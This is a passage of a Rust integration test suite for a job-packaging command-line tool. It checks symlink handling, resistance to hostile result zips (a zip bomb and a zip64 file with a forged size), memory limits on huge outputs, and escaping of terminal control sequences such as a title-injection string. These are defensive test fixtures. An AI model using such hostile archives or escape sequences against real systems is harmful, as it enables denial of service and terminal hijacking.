    symlink("real", sandbox.path().join("link")).unwrap();
    let via_link = run_ok(&sandbox, &["results", "open", id, "--to", "link"]);
    assert!(sandbox.path().join("real/job.json").exists(), "{via_link}");
    assert!(std::fs::symlink_metadata(sandbox.path().join("link"))
        .unwrap()
        .file_type()
        .is_symlink());
    // ... and again through the link, as an earlier opening of this result.
    run_ok(&sandbox, &["results", "open", id, "--to", "link"]);
    // A dangling link is an error that names it.
    symlink("nowhere", sandbox.path().join("dangling")).unwrap();
    let dangling = sandbox.run(&["results", "open", id, "--to", "dangling"]);
    assert_eq!(dangling.status.code(), Some(2), "{}", both(&dangling));
    assert!(
        text(&dangling.stderr).contains("nowhere"),
        "{}",
        both(&dangling)
    );
    // A non-empty folder that holds something else is refused.
    sandbox.write("other/x.txt", "x");
    let other = sandbox.run(&["results", "open", id, "--to", "other"]);
    assert_eq!(other.status.code(), Some(2), "{}", both(&other));
}

// ---- E. Bounded resources ---------------------------------------------------------------------------------

/// A result zip whose job.json says it has `claimed` bytes (zip64), though it has a few.
fn lying_zip(path: &Path) {
    use zip::write::SimpleFileOptions;
    let job = br#"{"id": "x"}"#;
    let mut writer = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
    let options = SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Stored)
        .large_file(true);
    writer.start_file("job.json", options).unwrap();
    writer.write_all(job).unwrap();
    writer.finish().unwrap();
    let mut bytes = std::fs::read(path).unwrap();
    // The zip64 extra field (id 1, 16 bytes: uncompressed size, compressed size) holds the sizes.
    let mut patched = 0;
    for at in 0..bytes.len().saturating_sub(20) {
        if bytes[at..at + 4] == [1, 0, 16, 0]
            && bytes[at + 4..at + 12] == (job.len() as u64).to_le_bytes()
        {
            bytes[at + 4..at + 12].copy_from_slice(&(1u64 << 63).to_le_bytes());
            patched += 1;
        }
    }
    assert!(patched >= 1, "no zip64 size to patch");
    std::fs::write(path, bytes).unwrap();
}

/// A result zip whose job.json unpacks to a gigabyte.
fn bomb_zip(path: &Path) {
    use zip::write::SimpleFileOptions;
    let mut writer = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
    let options = SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(true);
    writer.start_file("job.json", options).unwrap();
    let spaces = vec![b' '; 1 << 20];
    for _ in 0..1024 {
        writer.write_all(&spaces).unwrap();
    }
    writer.finish().unwrap();
}

#[test]
fn hostile_zips_in_the_store_are_skipped_and_cost_little() {
    let sandbox = Sandbox::new();
    let task = task_with(&sandbox, "store", "print('###METRIC###acc:1###')\n", "");
    let answer = run_ok(&sandbox, &["train", "attached", task.to_str().unwrap()]);
    let results = sandbox.home().join("results");
    lying_zip(&results.join("liar-20260101-000000-aaaa.zip"));
    bomb_zip(&results.join("bomb-20260101-000000-bbbb.zip"));

    let mut list = sandbox.command(&["results", "list", "--json"]);
    let (output, peak_kib) = measured(&mut list);
    assert!(output.status.success(), "{}", both(&output));
    let rows: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(rows.as_array().unwrap().len(), 1, "{rows}");
    assert_eq!(rows[0]["id"], answer["id"]);
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains("liar-") && stderr.contains("bomb-"),
        "{stderr}"
    );
    assert!(
        peak_kib < 300 * 1024,
        "results list peaked at {peak_kib} KiB"
    );

    // Reuse reads the store too: it skips them and still finds the completed twin.
    let again = run_ok(&sandbox, &["train", "attached", task.to_str().unwrap()]);
    assert_eq!(again["reused"], true);
}

#[test]
fn one_enormous_output_line_is_kept_whole_without_holding_it() {
    let sandbox = Sandbox::new();
    let task = task_with(
        &sandbox,
        "longline",
        "import sys\nfor _ in range(300):\n    sys.stdout.write('x' * 1000000)\nsys.stdout.write('\\n###METRIC###acc:1###\\n')\n",
        "",
    );
    let mut command = sandbox.command(&[
        "train",
        "attached",
        task.to_str().unwrap(),
        "--json",
        "--quiet",
    ]);
    let (output, peak_kib) = measured(&mut command);
    assert!(output.status.success(), "{}", both(&output));
    let answer: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(answer["metrics"]["acc"], 1.0);
    assert!(
        peak_kib < 200 * 1024,
        "peaked at {peak_kib} KiB for a 300 MB line"
    );
    let mut zip = ZipFile::open(Path::new(answer["result"].as_str().unwrap()));
    let logs = zip.0.by_name("logs.txt").unwrap();
    assert!(
        logs.size() >= 300_000_000,
        "logs.txt keeps the bytes: {}",
        logs.size()
    );
}

#[test]
fn large_files_are_streamed_into_packages_with_zip64_and_warned_about() {
    let sandbox = Sandbox::new();
    let task = task_with(&sandbox, "bigfile", "print(1)\n", "");
    // Sparse: four gibibytes and one mebibyte of zeros, on almost no disk. The dry run builds the
    // package (and hashes it) without unpacking it anywhere.
    let big = std::fs::File::create(sandbox.path().join("bigfile/src/big.bin")).unwrap();
    let size: u64 = (4 << 30) + (1 << 20);
    big.set_len(size).unwrap();
    let mut command = sandbox.command(&["train", "attached", task.to_str().unwrap(), "--dry-run"]);
    let (output, peak_kib) = measured(&mut command);
    assert!(output.status.success(), "{}", both(&output));
    let plan: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(plan["package"]["files"], 2, "{plan}");
    assert!(
        text(&output.stderr).contains("big.bin")
            && text(&output.stderr).contains("belongs in a channel"),
        "{}",
        both(&output)
    );
    assert!(peak_kib < 300 * 1024, "packaging peaked at {peak_kib} KiB");
}

// ---- F. What reaches a terminal ----------------------------------------------------------------------------

#[test]
fn control_characters_from_a_job_are_escaped_on_a_terminal_and_kept_in_logs() {
    let sandbox = Sandbox::new();
    let task = task_with(
        &sandbox,
        "escapes",
        "print('title\\x1b]0;pwned\\x07 clear\\x1b[2J colour\\x1b[31mred\\x1b[0m')\n",
        "",
    );
    let command = sandbox.command(&["train", "attached", task.to_str().unwrap(), "--json"]);
    let output = crate::common::on_terminal(command);
    assert!(output.status.success());
    let shown = &output.terminal;
    assert!(shown.contains("title\\x1b]0;pwned\\u{7}"), "{shown:?}");
    assert!(shown.contains("clear\\x1b[2J"), "{shown:?}");
    assert!(shown.contains("\x1b[31mred"), "colours pass: {shown:?}");
    assert!(!shown.contains("\x1b]0;"), "{shown:?}");
    let answer: Value = serde_json::from_slice(&output.stdout).unwrap();
    let mut zip = ZipFile::open(Path::new(answer["result"].as_str().unwrap()));
    assert!(
        zip.read("logs.txt").contains("title\x1b]0;pwned\x07"),
        "logs.txt keeps the bytes"
    );
}
